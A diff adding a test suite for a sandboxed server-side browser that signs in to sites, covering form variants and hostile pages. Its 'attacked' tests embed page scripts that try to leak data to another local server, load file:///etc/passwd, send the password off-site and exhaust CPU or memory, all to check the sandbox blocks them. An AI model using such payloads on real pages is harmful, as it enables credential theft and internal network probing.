@@ -1,0 +1,275 @@
+/** The browser of the server's own, against small sites on this machine: what it gets into, and what gets at it. */
+import { execFileSync } from "node:child_process";
+import { readdirSync } from "node:fs";
+import { createServer, get, type IncomingMessage, type Server, type ServerResponse } from "node:http";
+import type { AddressInfo } from "node:net";
+import { tmpdir } from "node:os";
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
+import { BrowserEngine } from "../src/server/signin/browser/browserEngine";
+import { browserProgram } from "../src/server/signin/browser/program";
+import type { SignedIn, SignInTask } from "../src/server/signin/engine";
+import { SignInFailure } from "../src/server/signin/guardedClient";
+import { studyPage } from "../src/server/signin/studiedPage";
+
+const USER = "box-office";
+const PASSWORD = "canary-browser/engine#73";
+
+let server: Server;
+let elsewhere: Server;
+let origin: string;
+let other: string;
+let page = "";
+/** Answers of the site by "METHOD /path"; what is not here is the page itself. */
+let answers: Record<string, (body: string, request: IncomingMessage, response: ServerResponse) => unknown> = {};
+const heard: string[] = [];
+const heardElsewhere: string[] = [];
+
+const bodyOf = async (request: IncomingMessage) => {
+  const parts: Buffer[] = [];
+  for await (const part of request) parts.push(part as Buffer);
+  return Buffer.concat(parts).toString();
+};
+const listen = async (made: Server) => {
+  await new Promise<void>((done) => made.listen(0, "127.0.0.1", done));
+  return `http://127.0.0.1:${(made.address() as AddressInfo).port}`;
+};
+
+beforeAll(async () => {
+  server = createServer(async (request, response) => {
+    const path = (request.url ?? "/").replace(/\?.*/, "");
+    const body = await bodyOf(request);
+    heard.push(`${request.method} ${request.url} ${body}`);
+    const answer = answers[`${request.method} ${path}`];
+    if (answer) return void answer(body, request, response);
+    response.setHeader("content-type", "text/html");
+    response.end(path === "/in" ? page : "<title>Today</title><h1>Today</h1><a href=/out>Sign out</a>");
+  });
+  origin = await listen(server);
+  elsewhere = createServer((request, response) => {
+    heardElsewhere.push(request.url ?? "");
+    response.setHeader("access-control-allow-origin", "*");
+    response.end("internal");
+  });
+  other = await listen(elsewhere);
+});
+afterAll(() => Promise.all([server, elsewhere].map((one) => new Promise((done) => one.close(done)))));
+beforeEach(() => {
+  answers = {};
+  heard.splice(0);
+  heardElsewhere.splice(0);
+});
+
+const program = () => browserProgram(process.env.CHROMIUM_PATH ?? "/usr/bin/chromium", "nobody");
+
+async function visit(more: Partial<SignInTask> = {}): Promise<SignedIn> {
+  const engine = new BrowserEngine(
+    program(),
+    { allowedTargets: new Set([new URL(origin).host]), ownPort: 1 },
+    { read: async (one) => studyPage(one) },
+  );
+  return engine.signIn({
+    signInPage: `${origin}/in`,
+    login: Promise.resolve({ userName: USER, password: PASSWORD, code: null }),
+    steps: { hosts: [], choices: {}, signOutPage: null },
+    allows: (address) => address.startsWith(`${origin}/`),
+    plainHttp: true,
+    worked: null,
+    userAgent: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/150.0.0.0 Safari/537.36",
+    acceptLanguage: "en-GB,en;q=0.8",
+    signal: AbortSignal.timeout(40_000),
+    onProgress: () => undefined,
+    claimCode: async () => true,
+    ...more,
+  });
+}
+
+const outcome = (more?: Partial<SignInTask>): Promise<string> =>
+  visit(more).then(
+    () => "signed-in",
+    (error) => (error instanceof SignInFailure ? error.failure : String(error)),
+  );
+
+/** Browsers of the server's own that run, and profiles that lie about. */
+const left = () => ({
+  processes: execFileSync("ps", ["-eo", "args"])
+    .toString()
+    .split("\n")
+    .filter((line) => /galtry-sign-in-/.test(line)).length,
+  profiles: readdirSync(tmpdir()).filter((name) => name.startsWith("galtry-sign-in-")).length,
+});
+
+const FIELDS = `<label>User name <input id=u></label><label>Password <input id=p type=password></label><p id=e class=error></p><button id=go type=button>Sign in</button>`;
+const SEND = `const r=await fetch("/api/in",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({u:q("u").value,p:q("p").value})});`;
+const accept =
+  (more: (response: ServerResponse) => unknown) =>
+  (body: string, _request: IncomingMessage, response: ServerResponse) => {
+    const { u, p } = JSON.parse(body) as { u: string; p: string };
+    response.setHeader("content-type", "application/json");
+    if (u !== USER || p !== PASSWORD) return response.writeHead(401).end('{"error":"no"}');
+    return more(response);
+  };
+const withCookie = accept((response) => response.setHeader("set-cookie", "visit=1; Path=/; HttpOnly").end("{}"));
+const drawn = (inner: string, before = "") =>
+  `<!doctype html><title>Quill</title>${before}<div id=app></div><script>setTimeout(()=>{const root=document.getElementById("app");root.innerHTML=${JSON.stringify(inner)};const q=(id)=>document.getElementById(id);q("go").onclick=async()=>{${SEND}if(r.ok){history.pushState({},"","/home");root.innerHTML="<h1>Welcome</h1><p>Today</p>"}else q("e").textContent="Wrong user name or password"}},80)</script>`;
+
+describe("gets in", () => {
+  test("where scripts draw the form and send it as JSON", async () => {
+    page = drawn(FIELDS);
+    answers = { "POST /api/in": withCookie };
+    const session = await visit();
+    expect(session.cookies.map(({ name, value, httpOnly }) => [name, value, httpOnly])).toEqual([["visit", "1", true]]);
+    expect(session.landing).toBe(`${origin}/home`);
+    expect(heard.filter((line) => line.startsWith("POST"))).toHaveLength(1);
+  });
+
+  test("where the session is kept in local storage alone", async () => {
+    page = drawn(FIELDS).replace(
+      "history.pushState",
+      'localStorage.setItem("token",(await r.json()).token);sessionStorage.setItem("tab","1");history.pushState',
+    );
+    answers = { "POST /api/in": accept((response) => response.end('{"token":"t-4471"}')) };
+    const { cookies, storage } = await visit();
+    expect(cookies).toEqual([]);
+    expect(storage).toEqual([{ origin, local: [["token", "t-4471"]], session: [["tab", "1"]] }]);
+  });
+
+  test("in a closed shadow root", async () => {
+    page = `<title>Quill</title><quill-door></quill-door><script>customElements.define("quill-door",class extends HTMLElement{connectedCallback(){const s=this.attachShadow({mode:"closed"});s.innerHTML=${JSON.stringify(FIELDS)};const q=(id)=>s.getElementById(id);q("go").onclick=async()=>{${SEND}if(r.ok)location.href="/home";else q("e").textContent="Wrong"}}})</script>`;
+    answers = { "POST /api/in": withCookie };
+    expect((await visit()).landing).toBe(`${origin}/home`);
+  });
+
+  test("in a frame of the same site", async () => {
+    page = '<title>Quill</title><h1>Quill</h1><iframe src="/door"></iframe>';
+    answers = {
+      "GET /door": (_body, _request, response) => {
+        response.setHeader("content-type", "text/html");
+        response.end(
+          `<form method=post action=/enter target=_top><label>User name <input name=u></label><label>Password <input type=password name=p></label><button>Sign in</button></form>`,
+        );
+      },
+      "POST /enter": (body, _request, response) => {
+        const ok = new URLSearchParams(body).get("p") === PASSWORD;
+        response
+          .writeHead(303, { location: ok ? "/home" : "/in", ...(ok && { "set-cookie": "visit=2; Path=/" }) })
+          .end();
+      },
+    };
+    expect((await visit()).cookies.map(({ value }) => value)).toEqual(["2"]);
+  });
+
+  test("user name first, then the password, on one page that changes itself", async () => {
+    page = `<title>Quill</title><main id=m><h1>Sign in</h1><label>Email <input id=u type=email autocomplete=username></label><button id=n>Next</button></main><script>const q=(id)=>document.getElementById(id);q("n").onclick=()=>{const u=q("u").value;q("m").innerHTML='<h1>Sign in</h1><p>'+u+'</p><label>Password <input id=p type=password></label><p id=e class=error></p><button id=go>Sign in</button>';q("go").onclick=async()=>{const r=await fetch("/api/in",{method:"POST",body:JSON.stringify({u,p:q("p").value})});if(r.ok)location.href="/home"}}</script>`;
+    answers = { "POST /api/in": withCookie };
+    expect((await visit()).landing).toBe(`${origin}/home`);
+  });
+
+  test("by a link for a button", async () => {
+    page = drawn(
+      FIELDS.replace("<button id=go type=button>Sign in</button>", '<a id=go class=btn href="#">Sign in</a>'),
+    );
+    answers = { "POST /api/in": withCookie };
+    expect(await outcome()).toBe("signed-in");
+  });
+});
+
+describe("says what happened", () => {
+  test("a wrong password, by the page's word and by the answer to a script, and once", async () => {
+    page = drawn(FIELDS);
+    answers = { "POST /api/in": (_body, _request, response) => response.writeHead(401).end("{}") };
+    expect(await outcome()).toBe("wrong-password");
+    expect(heard.filter((line) => line.startsWith("POST"))).toHaveLength(1);
+  });
+
+  test("a page without a sign-in, one that asks in the browser's own window, one that holds the password in what it keeps", async () => {
+    page = "<h1>Closed today</h1>";
+    expect(await outcome()).toBe("not-understood");
+    answers = {
+      "GET /in": (_body, _request, response) =>
+        response.writeHead(401, { "www-authenticate": 'Basic realm="q"' }).end("no"),
+    };
+    expect(await outcome()).toBe("http-basic");
+    page = drawn(FIELDS).replace(
+      "history.pushState",
+      'localStorage.setItem("kept",btoa("x"+q("p").value));history.pushState',
+    );
+    answers = { "POST /api/in": withCookie };
+    expect(await outcome()).toBe("gave-password-back");
+  });
+});
+
+describe("attacked", () => {
+  const tries = () => `
+    fetch("${other}/fetch").catch(()=>0); fetch("${other}/no-cors",{mode:"no-cors"}).catch(()=>0);
+    fetch("http://localhost:${new URL(other).port}/name").catch(()=>0);
+    fetch("/redirect").catch(()=>0); new Image().src="${other}/image"; navigator.sendBeacon("${other}/beacon","x");
+    try{new WebSocket("${other.replace("http", "ws")}/socket")}catch{}
+    try{new RTCPeerConnection({iceServers:[{urls:"stun:${new URL(other).host}"}]}).createDataChannel("x")}catch{}
+    for(const rel of ["prefetch","preconnect","dns-prefetch","prerender","stylesheet"]){const l=document.createElement("link");l.rel=rel;l.href="${other}/"+rel;document.head.append(l)}
+    const f=document.createElement("iframe");f.src="${other}/frame";document.body.append(f);
+    const g=document.createElement("iframe");g.src="file:///etc/passwd";document.body.append(g);
+    const a=document.createElement("a");a.href="/download";a.download="x";document.body.append(a);a.click();
+    navigator.serviceWorker?.register("/worker.js").catch(()=>0);
+    window.open("${other}/opened");`;
+
+  test("a page that reaches for internal addresses by every way gets to none of them", async () => {
+    page = `${drawn(FIELDS)}<script>${tries()}</script>`.replace(
+      'q("go").onclick=async()=>{',
+      `q("go").onclick=async()=>{${tries().replaceAll("\n", " ")}`,
+    );
+    answers = {
+      "POST /api/in": withCookie,
+      "GET /redirect": (_body, _request, response) =>
+        response.writeHead(302, { location: `${other}/redirected` }).end(),
+    };
+    expect(await outcome()).toBe("signed-in");
+    expect(heardElsewhere).toEqual([]);
+  });
+
+  test("a form of another site, and a page that leads the password away, get nothing", async () => {
+    page = `<form method=post action="${other}/take"><label>User name <input name=u></label><label>Password <input type=password name=p></label><button>Sign in</button></form>`;
+    expect(await outcome()).toBe("address-not-allowed");
+    page = drawn(FIELDS).replace(
+      "const r=await",
+      `location.href="${other}/take?x="+encodeURIComponent(q("p").value);await new Promise(()=>0);const r=await`,
+    );
+    expect(await outcome()).toBe("form-unsafe");
+    page = `<form action="/search"><label>User name <input name=u></label><label>Password <input type=password name=p></label><button>Sign in</button></form>`;
+    expect(await outcome()).toBe("form-unsafe");
+    expect(heardElsewhere).toEqual([]);
+    expect(heard.join(" ")).not.toContain(encodeURIComponent(PASSWORD));
+  });
+
+  test("a page that never ends and one that eats memory are ended, and nothing is left of them", async () => {
+    page = "<title>x</title><script>for(;;);</script>";
+    expect(await outcome({ signal: AbortSignal.timeout(6_000) })).toMatch(/too-slow|site-down/);
+    page = `<title>x</title><p>eats</p><script>setTimeout(()=>{const kept=[];for(;;)kept.push(new Uint8Array(8e6).fill(1))},300)</script>`;
+    expect(await outcome({ signal: AbortSignal.timeout(25_000) })).toMatch(/too-much|too-slow|not-understood/);
+    expect(left()).toEqual({ processes: 0, profiles: 0 });
+  });
+
+  test("a proxy without its secret lets nobody through", async () => {
+    const { BrowserProxy } = await import("../src/server/signin/browser/proxy");
+    const { Guard } = await import("../src/server/signin/guardedClient");
+    const guard = new Guard({
+      allows: () => true,
+      allowedTargets: new Set([new URL(origin).host]),
+      ownPort: 1,
+      plainHttp: true,
+    });
+    const proxy = await BrowserProxy.open(guard);
+    const through = (secret: string | null) =>
+      new Promise<number>((done) => {
+        const headers =
+          secret === null
+            ? {}
+            : { "proxy-authorization": `Basic ${Buffer.from(`galtry:${secret}`).toString("base64")}` };
+        get({ host: "127.0.0.1", port: proxy.port, path: `${origin}/in`, headers }, (answer) => {
+          answer.resume();
+          done(answer.statusCode ?? 0);
+        });
+      });
+    expect([await through(null), await through("guess"), await through(proxy.secret)]).toEqual([407, 407, 200]);
+    proxy.close();
+  });
+});
